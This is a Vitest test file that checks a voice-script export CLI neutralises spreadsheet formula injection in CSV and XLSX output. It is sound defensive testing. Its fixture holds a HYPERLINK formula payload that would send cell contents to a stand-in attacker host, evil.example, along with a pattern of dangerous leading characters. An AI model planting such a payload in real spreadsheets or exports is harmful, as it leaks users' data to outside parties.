/**
 * Nothing a script contains becomes a live formula in a spreadsheet. CSV exports (per voice,
 * combined, VoiceQ) neutralise cells starting with = + - @ tab or carriage return the OWASP way
 * (a leading apostrophe); XLSX writes every text as a text cell, never a formula. The built CLI
 * (`dist/cli/main.cjs`; npm test builds first) on a script whose lines and voice names start so.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { strFromU8, unzipSync } from 'fflate';
import readExcelFile from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula } from '../src/render/csv.js';
import { buildDocx, r } from './helpers/docx-builder.js';

const cli = join(fileURLToPath(new URL('..', import.meta.url)), 'dist', 'cli', 'main.cjs');

const RED = '<w:color w:val="C00000"/>';
const BLUE = '<w:color w:val="0070C0"/>';
const LINES: [string, string][] = [
  [RED, '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your bonus")'],
  [RED, '+33 1 23 45 67 89 is our number'],
  [BLUE, '-10% off everything this weekend'],
  [BLUE, '@channel please read this aloud'],
  [RED, '- a line that starts like a bullet'],
  [RED, 'A plain line, left as it is'],
];
const escape = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;');

/** A folder holding script.docx and a config naming the voices "=Narrator" and "@Host". */
function script(): string {
  const dir = mkdtempSync(join(tmpdir(), 'vo-formula-'));
  writeFileSync(join(dir, 'script.docx'), buildDocx({ body: LINES.map(([look, text]) => `<w:p>${r(escape(text), look)}</w:p>`).join('') }));
  writeFileSync(join(dir, 'vo-lines.config.json'), JSON.stringify({ voices: { '=Narrator': { color: '#C00000' }, '@Host': { color: '#0070C0' } } }));
  return dir;
}

function run(args: string[], cwd: string) {
  const env: NodeJS.ProcessEnv = { ...process.env, NO_COLOR: '1' };
  delete env.FORCE_COLOR;
  const result = spawnSync(process.execPath, [cli, ...args], { cwd, encoding: 'utf8', env });
  expect(result.stderr).toBe('');
  expect(result.status).toBe(0);
}

/** RFC 4180 fields of a CSV file (quoted fields may hold commas, quotes and line breaks). */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  const body = text.replace(/^\uFEFF/, '');
  const field = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g;
  for (let m = field.exec(body); m && m[0] !== ''; m = field.exec(body)) {
    cells.push(m[1]!.startsWith('"') ? m[1]!.slice(1, -1).replaceAll('""', '"') : m[1]!);
  }
  return cells;
}

const DANGEROUS = /^[=+\-@\t\r]/;

describe('formula injection', () => {
  it('neutraliseFormula: a leading apostrophe before = + - @ tab and carriage return, nothing else changed', () => {
    expect(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'].map(neutraliseFormula)).toEqual(["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx"]);
    expect(['1-1', 'a=b', ' =1', '', "'quoted", '— dash'].map(neutraliseFormula)).toEqual(['1-1', 'a=b', ' =1', '', "'quoted", '— dash']);
  });

  it('CSV per voice, --combined and --template voiceq: no cell starts with = + - @ tab or CR; the text follows the apostrophe', () => {
    const dir = script();
    run(['export', 'script.docx', '-o', 'lines.csv'], dir);
    run(['export', 'script.docx', '-o', 'all.csv', '--combined', '--unassigned', '--bom'], dir);
    run(['export', 'script.docx', '-o', 'voiceq.csv', '--template', 'voiceq'], dir);
    const files = ['lines-Narrator.csv', 'lines-Host.csv', 'all.csv', 'voiceq.csv'];
    const cells = files.flatMap((name) => csvCells(readFileSync(join(dir, name), 'utf8')));
    expect(cells.filter((cell) => DANGEROUS.test(cell))).toEqual([]);
    for (const [, text] of LINES) {
      const shown = DANGEROUS.test(text) ? `'${text}` : text;
      expect(cells).toContain(shown);
    }
    // Voice names (the Voice and Character/Source columns, the cues) too.
    expect(cells).toContain("'=Narrator");
    expect(cells).toContain("'@Host");
    expect(cells.some((cell) => cell.startsWith("'@Host: -10% off") || cell.startsWith("'=Narrator: "))).toBe(true);
  });

  it('XLSX: the same texts as text cells, unchanged, and not one formula', async () => {
    const dir = script();
    run(['export', 'script.docx', '-o', 'lines.xlsx'], dir);
    run(['export', 'script.docx', '-o', 'voiceq.xlsx', '--template', 'voiceq'], dir);
    for (const name of ['lines.xlsx', 'voiceq.xlsx']) {
      const file = join(dir, name);
      const parts = unzipSync(readFileSync(file));
      for (const [part, bytes] of Object.entries(parts)) {
        if (part.startsWith('xl/worksheets/')) expect(strFromU8(bytes), `${name} ${part}`).not.toMatch(/<f[\s>]/);
      }
      const values = (await readExcelFile(file)).flatMap((sheet) => sheet.data.flat());
      for (const [, text] of LINES) expect(values).toContain(text);
    }
  });
});
